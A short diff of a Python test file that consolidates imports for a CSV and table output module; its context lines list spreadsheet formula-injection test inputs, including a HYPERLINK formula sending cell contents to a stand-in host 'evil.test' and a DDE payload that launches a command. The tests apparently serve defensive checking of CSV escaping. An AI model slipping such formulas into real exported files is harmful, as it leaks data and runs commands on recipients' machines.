@@ -10,8 +10,7 @@ from hypothesis import strategies as st
 from output_pages import content_of
 
 from chaffinch.errors import OptionError
-from chaffinch.output.csv_text import as_csv
-from chaffinch.output.table import tables
+from chaffinch.output.tables import as_csv, tables
 
 FORMULAS = [
     '=HYPERLINK("https://evil.test/?"&A1,"x")', "=1+1", "+1+cmd|' /C calc'!A0",
